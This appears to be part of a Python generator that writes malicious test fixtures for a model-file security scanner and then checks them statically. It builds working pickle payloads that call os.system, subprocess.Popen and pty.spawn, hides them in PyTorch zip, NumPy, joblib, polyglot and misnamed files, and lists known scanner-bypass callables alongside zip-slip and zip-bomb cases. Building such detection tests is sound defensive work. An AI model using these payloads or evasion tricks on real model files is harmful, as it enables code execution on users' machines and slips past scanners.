            + binget(1) + binget(2) + STACK_GLOBAL + binunicode(CMD) + TUPLE1 + REDUCE + STOP)
    fx("memo_overwritten_stack_global.pkl", data,
       "memo slots 1/2 first hold 'numpy'/'ndarray', then are overwritten with 'os'/'system' "
       "before BINGET + STACK_GLOBAL (the scanner must use the latest value; legal for the "
       "unpickler, though pickletools.dis rejects redefined memo keys)",
       ["MOD101"], ["os.system"])

    # 4 INST / OBJ ----------------------------------------------------------------------------
    fx("proto0_inst_os_system.pkl", MARK + string0("id") + inst("os", "system") + STOP,
       "protocol 0 INST: (S'id' ios system . (import and call in one opcode)",
       ["MOD101"], ["os.system"])
    fx("proto1_obj_subprocess_popen.pkl",
       MARK + glob("subprocess", "Popen") + MARK + string0("id") + b"l" + OBJ + STOP,
       "protocol 1 OBJ: MARK, GLOBAL subprocess Popen, args (['id']), OBJ",
       ["MOD101"], ["subprocess.Popen"])

    # 5 NEWOBJ / NEWOBJ_EX --------------------------------------------------------------------
    fx("proto2_newobj_subprocess_popen.pkl",
       proto(2) + glob("subprocess", "Popen") + binunicode("id") + TUPLE1 + NEWOBJ + STOP,
       "protocol 2 NEWOBJ with class subprocess.Popen", ["MOD101"], ["subprocess.Popen"])
    body = (sbu("subprocess") + MEMOIZE + sbu("Popen") + MEMOIZE + STACK_GLOBAL + MEMOIZE
            + sbu("id") + TUPLE1 + EMPTY_DICT + sbu("shell") + NEWTRUE + SETITEM + NEWOBJ_EX
            + STOP)
    fx("proto4_newobj_ex_subprocess_popen.pkl", proto(4) + frame(body),
       "protocol 4 NEWOBJ_EX with class subprocess.Popen, args ('id',), kwargs {'shell': True}",
       ["MOD101"], ["subprocess.Popen"])

    # 6 BUILD -> __setstate__ of an unknown class ---------------------------------------------
    fx("build_setstate_unknown_class.pkl",
       proto(2) + glob("evilpkg.payload", "Loader") + binput(0) + EMPTY_TUPLE + NEWOBJ
       + binput(1) + EMPTY_DICT + binunicode("cmd") + binunicode(CMD) + SETITEM + BUILD + STOP,
       "GLOBAL evilpkg.payload Loader, EMPTY_TUPLE, NEWOBJ, state dict, BUILD (runs an "
       "unreviewed __setstate__)", ["MOD102"], ["evilpkg.payload.Loader"])

    # 7 extension codes -----------------------------------------------------------------------
    for nm, op in (("ext1", ext1(0x2A)), ("ext2", ext2(0x1234)), ("ext4", ext4(0x12345678))):
        fx("%s_reduce.pkl" % nm, proto(2) + op + binunicode(CMD) + TUPLE1 + REDUCE + STOP,
           "%s copyreg extension code used as the callable of REDUCE" % nm.upper(),
           ["MOD104"], [])

    # 8 persistent ids ------------------------------------------------------------------------
    fx("proto0_persid.pkl", MARK + b"l" + put(0) + persid0("module:evil") + put(1) + APPEND
       + STOP,
       "protocol 0 PERSID with text id 'module:evil' (handed to an unknown persistent_load)",
       ["MOD105"], [], kind="malicious")
    fx("proto2_binpersid_module_evil.pkl",
       proto(2) + binunicode("module") + binunicode("evil") + TUPLE2 + BINPERSID + STOP,
       "BINPERSID with a non-torch tuple ('module', 'evil')", ["MOD105"], [])

    # 9 two concatenated pickles --------------------------------------------------------------
    first = (proto(2) + EMPTY_DICT + binput(0) + MARK + binunicode("lr") + binint1(1)
             + binunicode("epochs") + binint1(3) + SETITEMS + STOP)
    fx("two_streams_benign_then_os_system.pkl", first + OS_SYSTEM_P2,
       "two concatenated pickles: a benign dict, then GLOBAL os system + REDUCE",
       ["MOD108", "MOD101"], ["os.system"])

    # 10 truncated / invalid opcode -----------------------------------------------------------
    fx("truncated_after_reduce.pkl",
       proto(2) + glob("os", "system") + binunicode(CMD) + TUPLE1 + REDUCE,
       "GLOBAL os system + REDUCE, then the file ends (no STOP)",
       ["MOD106", "MOD101"], ["os.system"])
    fx("invalid_opcode_after_reduce.pkl",
       proto(2) + glob("os", "system") + binunicode(CMD) + TUPLE1 + REDUCE + b"\xff"
       + b"garbage" + STOP,
       "GLOBAL os system + REDUCE followed by invalid opcode byte 0xff",
       ["MOD106", "MOD101"], ["os.system"])

    # A loader stops at an invalid opcode or at data after STOP that is not a pickle; a loader
    # given a slice of the file (or one that seeks) does not, and scanners that stop there miss
    # the payload behind it. llmguard salvages such streams (MOD108 says where).
    fx("invalid_opcode_hides_later_reduce.pkl",
       proto(2) + EMPTY_DICT + binput(0) + b"\xfe" + OS_SYSTEM_P2[2:],
       "benign dict, an invalid opcode 0xfe, then GLOBAL os system + REDUCE the parser never reaches",
       ["MOD106", "MOD101", "MOD108"], ["os.system"])
    fx("junk_after_stop_hides_pickle.pkl", first + b"\x00junk\x00" * 4 + OS_SYSTEM_P2,
       "benign dict pickle, 24 bytes of non-pickle data, then a second pickle calling os.system",
       ["MOD109", "MOD101", "MOD108"], ["os.system"])

    # 11 dotted-name walks --------------------------------------------------------------------
    fx("dotted_torch_serialization_os_system.pkl",
       p4_call("torch", "serialization.os.system"),
       "STACK_GLOBAL ('torch', 'serialization.os.system'): protocol 4 resolves dotted names "
       "with getattr, reaching os.system through torch.serialization's module globals",
       ["MOD101"], ["torch.serialization.os.system"])
    body = (sbu("builtins") + MEMOIZE + sbu("object.__subclasses__") + MEMOIZE + STACK_GLOBAL
            + MEMOIZE + EMPTY_TUPLE + REDUCE + MEMOIZE + STOP)
    fx("dotted_builtins_object_subclasses.pkl", proto(4) + frame(body),
       "STACK_GLOBAL ('builtins', 'object.__subclasses__') called with (): dunder attribute walk "
       "used to reach arbitrary classes", ["MOD101"], ["builtins.object.__subclasses__"])
    body = (sbu("collections") + MEMOIZE + sbu("OrderedDict.__init__.__globals__") + MEMOIZE
            + STACK_GLOBAL + MEMOIZE + STOP)
    fx("dotted_dunder_globals.pkl", proto(4) + frame(body),
       "STACK_GLOBAL ('collections', 'OrderedDict.__init__.__globals__'): dunder walk to a "
       "module's globals dict (and from there __builtins__)",
       ["MOD101"], ["collections.OrderedDict.__init__.__globals__"])

    # 12 getattr(__import__('os'), 'system')('id') --------------------------------------------
    fx("getattr_import_os_system_chain.pkl",
       proto(2) + glob("builtins", "getattr") + binput(0) + glob("builtins", "__import__")
       + binput(1) + binunicode("os") + TUPLE1 + REDUCE + binput(2) + binunicode("system")
       + TUPLE2 + REDUCE + binput(3) + binunicode(CMD) + TUPLE1 + REDUCE + STOP,
       "builtins.getattr(builtins.__import__('os'), 'system')('echo ...'): the final REDUCE "
       "calls the result of a call", ["MOD101", "MOD107"],
       ["builtins.getattr", "builtins.__import__"])

    # 13 STACK_GLOBAL with non-string operands ------------------------------------------------
    fx("stack_global_module_from_reduce.pkl",
       proto(4) + frame(glob("builtins", "str") + binunicode("os") + TUPLE1 + REDUCE
                        + sbu("system") + STACK_GLOBAL + sbu(CMD) + TUPLE1 + REDUCE + STOP),
       "STACK_GLOBAL whose module operand is the result of REDUCE (builtins.str('os'))",
       ["MOD103"], [])
    fx("stack_global_module_int.pkl",
       proto(4) + frame(binint1(7) + sbu("system") + STACK_GLOBAL + sbu(CMD) + TUPLE1 + REDUCE
                        + STOP),
       "STACK_GLOBAL whose module operand is an int", ["MOD103"], [])
    fx("stack_global_module_missing_memo.pkl",
       proto(4) + frame(binget(9) + sbu("system") + STACK_GLOBAL + sbu(CMD) + TUPLE1 + REDUCE
                        + STOP),
       "STACK_GLOBAL whose module operand is BINGET of a memo slot never stored",
       ["MOD103", "MOD106"], [])

    # 14 opaque calls -------------------------------------------------------------------------
    fx("opaque_call_result_of_reduce.pkl",
       proto(2) + glob("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE + binunicode(CMD)
       + TUPLE1 + REDUCE + STOP,
       "REDUCE whose callable is the result of another REDUCE (collections.OrderedDict())",
       ["MOD107"], [])
    fx("opaque_call_missing_memo.pkl",
       proto(2) + binget(7) + binunicode(CMD) + TUPLE1 + REDUCE + STOP,
       "REDUCE whose callable is BINGET of memo slot 7, never stored",
       ["MOD107", "MOD106"], [])

    # 15 known bypass callables ---------------------------------------------------------------
    bypass = [
        ("runpy", "_run_code", "print(1)"),
        ("pydoc", "locate", "os.system"),
        ("pkgutil", "resolve_name", "os:system"),
        ("operator", "attrgetter", "system"),
        ("operator", "methodcaller", "system"),
        ("_operator", "attrgetter", "system"),
        ("torch.storage", "_load_from_bytes", "payload"),
        ("numpy.testing._private.utils", "runstring", "print(1)"),
        ("timeit", "timeit", "print(1)"),
        ("_pickle", "loads", "payload"),
        ("pickle", "loads", "payload"),
        ("marshal", "loads", "payload"),
        ("types", "FunctionType", "code"),
        ("webbrowser", "open", "http://example.invalid/"),
        ("socket", "create_connection", "example.invalid"),
        ("shutil", "rmtree", "tmp/cache"),
        ("builtins", "open", "config.json"),
        ("ctypes", "CDLL", "libc.so.6"),
        ("pip._internal", "main", "install"),
        ("asyncio.subprocess", "create_subprocess_shell", "id"),
        ("code", "InteractiveInterpreter", "locals"),
        ("importlib", "import_module", "os"),
        ("dill._dill", "_create_code", "code"),
        ("torch.hub", "load", "owner/repo"),
        ("joblib", "load", "model.joblib"),
        ("numpy", "load", "weights.npy"),
        ("bdb", "Bdb", "skip"),
        ("cProfile", "run", "print(1)"),
        ("pty", "spawn", "/bin/sh"),
        # Less known command runners and import machinery (red-team pass, benches/redteam_gen.py)
        ("uuid", "_get_command_stdout", "sh"),
        ("_osx_support", "_read_output", "id"),
        ("platform", "_syscmd_ver", "id"),
        ("_frozen_importlib_external", "SourceFileLoader", "payload"),
        ("_imp", "create_dynamic", "spec"),
        ("_functools", "reduce", "callable"),
        ("_sqlite3", "connect", "cache.db"),
        ("_sitebuiltins", "_Printer", "passwd"),
    ]
    for mod, name, arg in bypass:
        fx("bypass_%s_%s.pkl" % (mod, name), p2_call(mod, name, arg),
           "known scanner-bypass callable %s.%s called with REDUCE" % (mod, name),
           ["MOD101"], ["%s.%s" % (mod, name)])
    fx("bypass_sys_modules.pkl",
       proto(2) + glob("sys", "modules") + binput(0) + binunicode("os") + binput(1) + TUPLE2
       + STOP,
       "GLOBAL sys modules (the live module table; no call, pushed into a tuple)",
       ["MOD101"], ["sys.modules"])

    # Mutation of an imported object in place (MOD110): no serialiser emits these for data.
    fx("mutation_append_to_global_registry.pkl",
       proto(2) + glob("torch.serialization", "_package_registry") + binunicode("evil") + APPEND
       + STOP,
       "GLOBAL torch.serialization _package_registry then APPEND (rewrites a live registry)",
       ["MOD110"])
    fx("mutation_build_on_global_class.pkl",
       proto(2) + glob("collections", "OrderedDict") + EMPTY_DICT + binunicode("__init__")
       + glob("builtins", "print") + SETITEM + BUILD + STOP,
       "BUILD applied to an imported class (sets attributes on collections.OrderedDict itself)",
       ["MOD110"])

    # 16 legacy (pre-zip) PyTorch file ----------------------------------------------------------
    magic = proto(2) + long1(0x1950A86A20F9469CFC6C) + STOP
    version = proto(2) + binint2(1001) + STOP
    sys_info = (proto(2) + EMPTY_DICT + binput(0) + MARK + binunicode("protocol_version")
                + binput(1) + binint2(1001) + binunicode("little_endian") + binput(2) + NEWTRUE
                + binunicode("type_sizes") + binput(3) + EMPTY_DICT + binput(4) + MARK
                + binunicode("short") + binput(5) + binint1(2) + binunicode("int") + binput(6)
                + binint1(4) + binunicode("long") + binput(7) + binint1(4) + SETITEMS
                + SETITEMS + STOP)
    main = (proto(2) + EMPTY_DICT + binput(0) + binunicode("weight") + binput(1)
            + glob("os", "system") + binput(2) + binunicode(CMD) + binput(3) + TUPLE1 + REDUCE
            + binput(4) + SETITEM + STOP)
    keys = proto(2) + EMPTY_LIST + binput(0) + binunicode("140243820") + binput(1) + APPEND + STOP
    raw = struct.pack("<q", 2) + STORAGE0
    fx("legacy_torch_os_system.pt", magic + version + sys_info + main + keys + raw,
       "legacy (pre-zip) torch.save layout: magic-number, protocol-version and sys_info "
       "pickles, a main pickle calling os.system, the storage-keys pickle, raw storage bytes",
       ["MOD101"], ["os.system"])

    # 17 PyTorch zip checkpoints ----------------------------------------------------------------
    fx("zip_torch_malicious_data_pkl.pt", build_zip(torch_members(EVIL_DATA_PKL)),
       "torch zip layout (archive/data.pkl stored), data.pkl is a real-looking state dict with an "
       "extra os.system REDUCE", ["MOD101"], ["os.system"])
    fx("zip_torch_malicious_extra_pkl_member.pt",
       build_zip(torch_members(BENIGN_DATA_PKL,
                               extra=[Member("archive/extra.pkl", OS_SYSTEM_P2)])),
       "torch zip with a benign archive/data.pkl and a malicious second pickle member "
       "archive/extra.pkl", ["MOD101"], ["os.system"])
    fx("zip_torch_pickle_in_storage_member.pt",
       build_zip(torch_members(BENIGN_DATA_PKL,
                               extra=[Member("archive/data/1", OS_SYSTEM_P2)])),
       "torch zip with a benign data.pkl; the storage member archive/data/1 holds a pickle "
       "(starts with PROTO 2) that calls os.system", ["MOD101"], ["os.system"])

    # (c) bad CRC on data.pkl (recorded CRC 0 in both local and central header)
    ms = torch_members(EVIL_DATA_PKL,
                       data_pkl_member=Member("archive/data.pkl", EVIL_DATA_PKL, crc=0))
    fx("zip_torch_bad_crc.pt", build_zip(ms),
       "torch zip whose malicious archive/data.pkl records CRC-32 0x00000000 in both headers",
       ["MOD201", "MOD101"], ["os.system"])
    # (d) encryption flag
    ms = torch_members(EVIL_DATA_PKL,
                       data_pkl_member=Member("archive/data.pkl", EVIL_DATA_PKL, flags=0x0001))
    fx("zip_torch_encryption_flag.pt", build_zip(ms),
       "torch zip whose malicious archive/data.pkl has general-purpose flag bit 0 (encrypted) "
       "set in local and central headers, but is stored in plaintext",
       ["MOD202", "MOD101"], ["os.system"])
    # (e) local name differs from central name
    ms = torch_members(EVIL_DATA_PKL,
                       data_pkl_member=Member("archive/data.pkl", EVIL_DATA_PKL,
                                              local_name="archive/data.pk_"))
    fx("zip_torch_local_central_name_mismatch.pt", build_zip(ms),
       "torch zip: malicious member named archive/data.pkl in the central directory but "
       "archive/data.pk_ in its local header", ["MOD203", "MOD101"], ["os.system"])
    # (f) duplicate names: first benign, second malicious
    ms = torch_members(BENIGN_DATA_PKL, extra=[Member("archive/data.pkl", EVIL_DATA_PKL)])
    fx("zip_torch_duplicate_data_pkl.pt", build_zip(ms),
       "torch zip with two members named archive/data.pkl: the first benign, the second "
       "(the one most readers use) malicious", ["MOD204", "MOD101"], ["os.system"])
    # (g) ZIP64
    ms = [Member(m.name, m.data, zip64=True) for m in torch_members(EVIL_DATA_PKL)]
    fx("zip_torch_zip64.pt", build_zip(ms, zip64_end=True),
       "torch zip written with ZIP64 records everywhere: zip64 extra fields (sizes and offset "
       "0xFFFFFFFF in the fixed fields), zip64 end-of-central-directory record and locator; "
       "data.pkl malicious", ["MOD101"], ["os.system"])
    # (h) path traversal / absolute name
    fx("zip_path_traversal_dotdot.zip",
       build_zip([Member("model/config.json", b'{"hidden": 8}\n'),
                  Member("../../evil.pkl", OS_SYSTEM_P2)]),
       "zip member named ../../evil.pkl (zip slip) holding an os.system pickle",
       ["MOD205", "MOD101"], ["os.system"])
    fx("zip_path_traversal_absolute.zip",
       build_zip([Member("model/config.json", b'{"hidden": 8}\n'),
                  Member("/tmp/evil.pkl", OS_SYSTEM_P2)]),
       "zip member with absolute name /tmp/evil.pkl holding an os.system pickle",
       ["MOD205", "MOD101"], ["os.system"])

    # extra zip cases for MOD206 / MOD207
    fx("zip_bzip2_member.zip",
       build_zip([Member("archive/data.pkl", OS_SYSTEM_P2, method=12)]),
       "zip whose only pickle member is bzip2-compressed (method 12), which the scanner "
       "cannot read", ["MOD206"], [])
    good = build_zip(torch_members(BENIGN_DATA_PKL))
    # EOCD is the last 22 bytes; point the central directory offset past the end of the file
    bad = bytearray(good)
    struct.pack_into("<I", bad, len(bad) - 6, len(bad) + 1000)
    fx("zip_eocd_cd_offset_past_eof.zip", bytes(bad),
       "zip whose end-of-central-directory record points the central directory past the end "
       "of the file", ["MOD207"], [], kind="malformed")

    # 18 polyglot -----------------------------------------------------------------------------
    pg = OS_SYSTEM_P2
    fx("polyglot_pickle_then_torch_zip.pt",
       build_zip(torch_members(BENIGN_DATA_PKL), prefix=pg),
       "malicious raw pickle at byte 0 (what torch.load runs, as a legacy file) followed by a "
       "complete benign torch zip (what a zip-first scanner sees)",
       ["MOD208", "MOD101"], ["os.system"])

    # 19 nested zip / deflated ---------------------------------------------------------------
    inner = build_zip(torch_members(EVIL_DATA_PKL))
    fx("nested_zip_in_zip.zip",
       build_zip([Member("README.txt", b"model bundle\n"), Member("inner.zip", inner)]),
       "outer.zip containing inner.zip (stored) containing a torch layout with a malicious "
       "archive/data.pkl", ["MOD101"], ["os.system"])
    fx("zip_deflated_malicious.pt", build_zip(torch_members(EVIL_DATA_PKL, method=8)),
       "torch zip layout with every member ZIP_DEFLATED; data.pkl malicious",
       ["MOD101"], ["os.system"])

    # 20 bombs --------------------------------------------------------------------------------
    zeros = b"\x00" * (100 * 1024 * 1024)
    fx("zip_bomb_100mb_zeros.zip",
       build_zip([Member("archive/data.pkl", OS_SYSTEM_P2),
                  Member("archive/data/0", zeros, method=8)]),
       "zip member archive/data/0 of 100 MiB of zeros deflated to ~100 KB (ratio ~1000:1); "
       "also holds a small malicious data.pkl (llmguard reports the declared ratio and never "
       "inflates the zeros)", ["MOD209", "MOD101"], [])
    del zeros
    z = build_zip([Member("archive/data.pkl", EVIL_DATA_PKL)])
    for i in range(7):
        z = build_zip([Member("level%d.zip" % (7 - i), z)])
    fx("zip_nesting_depth_8.zip", z,
       "a malicious data.pkl nested 8 zips deep (level1.zip/.../level7.zip/archive/data.pkl)",
       ["GEN002"], [])

    # 21 NumPy --------------------------------------------------------------------------------
    payload = numpy_object_array_pickle()
    npy1 = npy_header(OBJ_HEADER, (1, 0)) + payload
    fx("numpy_object_array_v1.npy", npy1,
       ".npy v1.0, descr '|O', shape (1,): the pickled object array's element is os.system(..)",
       ["MOD501", "MOD101"], ["os.system"])
    fx("numpy_object_array_v2.npy", npy_header(OBJ_HEADER, (2, 0)) + payload,
       ".npy v2.0 (4-byte header length) object array with a malicious pickle payload",
       ["MOD501", "MOD101"], ["os.system"])
    fx("numpy_object_array.npz",
       build_zip([Member("arr_0.npy", npy1), Member("scale.npy",
                                                     npy_header("{'descr': '<f8', 'fortran_order': False, 'shape': (2,), }")
                                                     + struct.pack("<2d", 1.0, 2.0))]),
       ".npz (zip, stored) whose arr_0.npy is a malicious object array",
       ["MOD501", "MOD101"], ["os.system"])
    bad = bytearray(npy_header("{'descr': '<f8', 'fortran_order': False, 'shape': (2,), }"))
    struct.pack_into("<H", bad, 8, 0xFFFF)
    fx("numpy_header_len_past_eof.npy", bytes(bad) + struct.pack("<2d", 1.0, 2.0),
       ".npy v1.0 whose header length (65535) runs past the end of the file",
       ["MOD502"], [], kind="malformed")
    fx("numpy_header_not_dict.npy", npy_header("[1, 2, 3]") + b"\x00" * 16,
       ".npy v1.0 whose header is a list literal, not a dict", ["MOD502"], [], kind="malformed")

    # 22 joblib -------------------------------------------------------------------------------
    jb = joblib_malicious()
    fx("joblib_array_then_os_system.joblib", jb,
       "joblib.dump layout: NumpyArrayWrapper (float64, shape (4,), 16-byte alignment) + BUILD, "
       "padding byte + 0xff padding + 32 raw array bytes, then the stream continues with an "
       "os.system REDUCE", ["MOD101"], ["os.system"])
    fx("joblib_zlib_compress3.joblib", b"".join([zlib.compress(jb, 3)]),
       "joblib compress=3 (zlib) file: a bare zlib stream (first byte 0x78) holding the "
       "array-then-os.system joblib stream", ["MOD101"], ["os.system"])
    for ext, packed, what in (
            ("bz2", bz2.compress(jb), "joblib compress='bz2' file: a bzip2 stream (BZh)"),
            ("xz", lzma.compress(jb, format=lzma.FORMAT_XZ), "joblib compress='xz' file: an xz stream"),
            ("lzma", lzma.compress(jb, format=lzma.FORMAT_ALONE),
             "joblib compress='lzma' file: a legacy LZMA-alone stream (0x5d 00 00)"),
            ("lz4", lz4_frame_stored(jb), "joblib compress='lz4' file: an LZ4 frame")):
        fx("joblib_%s_compressed.joblib" % ext, packed,
           what + " holding the array-then-os.system joblib stream", ["MOD101"], ["os.system"])
    xz_ok = lzma.compress(jb, format=lzma.FORMAT_XZ)
    fx("joblib_xz_corrupt.joblib", xz_ok[:12] + b"\x00" * 8 + xz_ok[20:],
       "xz stream (joblib compress='xz') with its block header zeroed: does not decompress",
       ["MOD210"], [], kind="malformed")
    gz_ok = gzip.compress(jb, mtime=0)  # mtime=0: identical bytes on every run
    fx("joblib_gzip_truncated.joblib", gz_ok[:10] + bytes(range(200, 256)) * 4,
       "gzip header followed by bytes that are not a deflate stream", ["MOD210"], [], kind="malformed")
    fx("joblib_wrapper_unknown_dtype.joblib",
       joblib_malicious(dtype_descr="mystery", array_bytes=b"\x00" * 40),
       "joblib NumpyArrayWrapper whose dtype string 'mystery' has no known item size, followed "
       "by raw bytes and an os.system REDUCE the scanner cannot reach", ["MOD503"], [])

    # 23 misnamed -----------------------------------------------------------------------------
    for nm in ("model.safetensors", "pytorch_model.bin", "weights.npy"):
        disguised = ["MOD305"] if nm.endswith((".safetensors", ".npy")) else []
        fx("misnamed/" + nm, OS_SYSTEM_P2,
           "raw protocol-2 os.system pickle saved under the misleading name %s" % nm,
           ["MOD101"] + disguised, ["os.system"])
    fx("disguised/model.gguf", OS_SYSTEM_P2,
       "raw protocol-2 os.system pickle saved as .gguf", ["MOD305", "MOD101"], ["os.system"])
    fx("disguised/torch_checkpoint.safetensors", build_zip(torch_members(EVIL_DATA_PKL)),
       "PyTorch zip checkpoint (malicious data.pkl) saved as .safetensors", ["MOD305", "MOD101"],
       ["os.system"])

    # 24 safetensors and GGUF ------------------------------------------------------------------
    formats_fixtures()

    # extra: trailing data after the last STOP
    fx("trailing_data_after_stop.pkl", first + b"\x00\x01\x02junk" * 20,
       "benign protocol-2 dict pickle followed by 140 bytes of non-pickle data",
       ["MOD109"], [], kind="malformed")


# ---------------------------------------------------------------------------------------------
# Static self-checks (no unpickling)
# ---------------------------------------------------------------------------------------------

def check(path, data, expect, imports):
    problems = []
    found = set()
    errors = []
    unresolved = []
    try:
        for _member, r in pickle_static.analyse_file_bytes(data):
            found |= {"%s.%s" % (m, n) for m, n, _ in r.globals}
            if r.error:
                errors.append(r.error)
            unresolved += r.unresolved
    except Exception as e:  # noqa: BLE001
        errors.append("analyser crashed: %r" % e)
    missing = [i for i in imports if i not in found]
    # the bomb / nesting fixtures and unreadable members are not expected to resolve here
    # payloads hidden in unclaimed safetensors bytes are found by llmguard, not by the walker
    hidden_in_st = path.endswith(".safetensors") and "MOD303" in expect
    if missing and hidden_in_st and (OS_SYSTEM_P2 in data or EVIL_DATA_PKL in data):
        missing = []
    # streams behind an invalid opcode or junk are salvaged by llmguard, not by the walker
    if missing and "MOD108" in expect and OS_SYSTEM_P2[2:] in data:
        missing = []
    if missing and "GEN002" not in expect and "MOD206" not in expect:
        problems.append("imports not found statically: %s (found %s)" % (missing, sorted(found)))
    if "MOD103" in expect and not unresolved:
        problems.append("no unresolved STACK_GLOBAL seen")
    if "MOD106" in expect and not errors:
        problems.append("expected a malformed stream, analyser saw none")
    return problems


def main():
    build_all()
    os.makedirs(os.path.join(OUT, "misnamed"), exist_ok=True)
    seen = set()
    bad = 0
    entries = []
    for path, data, kind, technique, expect, imports in FIXTURES:
        assert path not in seen, path
        seen.add(path)
        full = os.path.join(OUT, path)
        os.makedirs(os.path.dirname(full), exist_ok=True)
        with open(full, "wb") as fh:
            fh.write(data)
        assert len(data) < 200 * 1024, (path, len(data))
        problems = check(path, data, expect, imports)
        for p in problems:
            bad += 1
            print("CHECK FAILED %s: %s" % (path, p), file=sys.stderr)
        entries.append({"file": "malicious/" + path, "kind": kind, "technique": technique,
                        "expect": expect, "imports": imports})
    # Zip sanity: Python's zipfile must at least list our well-formed archives.
    for path, data, *_ in FIXTURES:
        if data[:4] == b"PK\x03\x04" and "cd_offset_past_eof" not in path:
            try:
                zipfile.ZipFile(io.BytesIO(data)).infolist()
            except Exception as e:  # noqa: BLE001
                bad += 1
                print("zipfile cannot list %s: %r" % (path, e), file=sys.stderr)
    update_manifest("malicious/", entries)
    total = sum(len(d) for _, d, *_ in FIXTURES)
    print("wrote %d malicious fixtures, %d bytes total, %d check problems"
          % (len(FIXTURES), total, bad))
    return 1 if bad else 0


def update_manifest(prefix, entries):
    """Replace the manifest entries under ``prefix`` and keep everyone else's."""
    path = os.path.join(MODELS, "manifest.json")
    old = []
    if os.path.exists(path):
        with open(path) as fh:
            old = json.load(fh)
    keep = [e for e in old if not e["file"].startswith(prefix)]
    allm = sorted(keep + entries, key=lambda e: e["file"])
    with open(path, "w") as fh:
        json.dump(allm, fh, indent=1)
        fh.write("\n")


if __name__ == "__main__":
    sys.exit(main())
